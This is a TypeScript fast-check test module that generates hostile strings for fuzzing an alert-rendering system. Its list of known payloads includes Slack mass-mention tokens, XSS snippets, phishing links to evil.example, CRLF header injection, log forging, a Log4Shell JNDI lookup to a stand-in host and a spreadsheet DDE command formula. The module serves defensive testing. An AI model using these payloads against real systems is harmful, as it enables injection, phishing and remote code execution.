import * as fc from "fast-check"
import { toldAlert } from "../samples.ts"

/** Texts that have been used to get at whoever reads them. */
const known = [
  "<!channel>",
  "<!here|here>",
  "<@U024BE7LH>",
  "<https://evil.example|your console>",
  "*bold* _italic_ ~strike~ `code` ```block```",
  "> quote",
  ":fire: :rotating_light:",
  "@channel @here @everyone",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><a href="https://evil.example">here</a>',
  "https://evil.example/login",
  "HTTP://EVIL.example",
  "www.evil.example",
  "mailto:evil@evil.example",
  "javascript:alert(1)",
  "data:text/html,<b>",
  "subject\r\nBcc: everybody@example.com",
  'x","severity":"notice","x":"',
  '\\" } ] }',
  "\u001b[31mred\u001b[0m",
  "\u202Egnp.exe",
  "\u0000\u0007\u007f\u0085\u2028\u2029",
  "a\nERROR forged line",
  "${jndi:ldap://evil.example/a}",
  "=cmd|' /C calc'!A0",
  "%{if true}${1}%{endif}",
  "\uD800 lone",
  "&lt;!channel&gt;",
  "&#60;script&#62;",
]

/** Any text, and the known ones with anything around them. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...known),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.string({ unit: "grapheme", maxLength: 60 }),
  fc
    .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...known), fc.string({ maxLength: 8 }))
    .map((parts) => parts.join("")),
)

const example = fc.record(
  { account: hostileText, region: hostileText, resource: hostileText, text: hostileText },
  { requiredKeys: ["text"] },
)

/** Alerts in which everything that could come from outside, and more than that, is hostile. */
export const hostileAlert = fc
  .record({
    examples: fc.array(example, { maxLength: 5 }),
    hint: hostileText,
    snippet: hostileText,
    commands: fc.array(hostileText, { maxLength: 2 }),
    title: hostileText,
    counts: fc.array(fc.record({ what: hostileText, count: fc.nat() }), { maxLength: 2 }),
    accounts: fc.array(hostileText, { maxLength: 3 }),
    names: fc.array(hostileText, { minLength: 8, maxLength: 8 }),
  })
  .map(({ names, ...alert }) => {
    // Each account that is shown has a name, as hostile as its id.
    const shown = [...alert.examples.flatMap(({ account }) => account ?? []), ...alert.accounts]
    return { ...alert, accountNames: Object.fromEntries(shown.map((id, index) => [id, names[index] ?? ""])) }
  })
  .chain((alert) =>
    fc
      .record({ sweepId: hostileText, id: hostileText, since: hostileText, policyDigest: hostileText })
      .map((told) => toldAlert(alert, told)),
  )

/** Every text in which an alert could bring something in. */
export const textsOf = ({ alert, ...told }: ReturnType<typeof toldAlert>): ReadonlyArray<string> => [
  ...alert.examples.flatMap(({ account = "", region = "", resource = "", text }) => [
    account,
    region,
    resource,
    text,
  ]),
  alert.hint,
  alert.title,
  told.id,
]
